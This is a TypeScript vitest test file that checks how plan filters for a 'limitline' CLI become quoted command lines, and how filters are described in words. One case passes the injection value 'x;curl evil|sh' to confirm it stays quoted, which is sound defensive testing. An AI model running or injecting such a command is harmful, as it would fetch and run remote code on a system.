import { expect, test } from 'vitest';
import { commandOf, filterWords } from '../../../src/console/pages/plans/plan-words.ts';
import type { Plan } from '../../../src/ledger/plans/plan.ts';

type Asked = Pick<Plan, 'action' | 'filter'> & { whole?: boolean; portfolio?: string };

test.each<[Asked, string | undefined]>([
  [{ action: 'retry', filter: { states: ['refused'] } }, 'npx limitline retry q4'],
  [{ action: 'retry', filter: { states: ['cancelled'] } }, 'npx limitline retry q4 --state cancelled'],
  [{ action: 'retry', filter: { states: ['refused'], cause: 'k3f9' } }, 'npx limitline retry q4 --cause k3f9'],
  [{ action: 'cancel', filter: { states: ['refused'], cause: 'k3f9' } }, 'npx limitline cancel q4 --cause k3f9'],
  [{ action: 'cancel', filter: { states: ['queued'] }, whole: true }, 'npx limitline cancel q4'],
  [{ action: 'cancel', filter: { states: ['queued'] } }, 'npx limitline cancel q4 --where states=queued'],
  [
    { action: 'retry', filter: { states: ['cancelled'], outcomes: ['not_sent'] } },
    "npx limitline retry q4 --where 'states=cancelled&outcomes=not_sent'",
  ],
  [
    { action: 'retry', filter: { states: ['refused'], min: '1000', text: "o'neill & co" } },
    "npx limitline retry q4 --where 'states=refused&min=1000&text=o%27neill+%26+co'",
  ],
  [{ action: 'retry', filter: {} }, undefined],
  [{ action: 'resend', filter: { states: ['held'] } }, 'npx limitline resolve q4 --all --resend'],
  [{ action: 'resend', filter: { states: ['held'], cause: 'k3f9' } }, undefined],
  [
    { action: 'retry', filter: { states: ['refused'], cause: 'x;curl evil|sh' } },
    "npx limitline retry q4 --cause 'x;curl evil|sh'",
  ],
  [{ action: 'retry', filter: { states: ['refused'] }, portfolio: 'Q4 2026' }, "npx limitline retry 'Q4 2026'"],
])('the command of %j is %s', (plan, command) => {
  expect(commandOf({ portfolio: 'q4', whole: false, ...plan })).toBe(command);
});

test('a plan names each condition of its rows', () => {
  const filter = { states: ['refused'], step: 'limit', problem: 'city', min: '5' } as const;
  expect(filterWords({ filter, cause: null })).toEqual([
    'with the outcome “rejected by the service”',
    'at the step limit',
    'with “city” in the problem',
    'asking for 5.00 or more',
  ]);
});
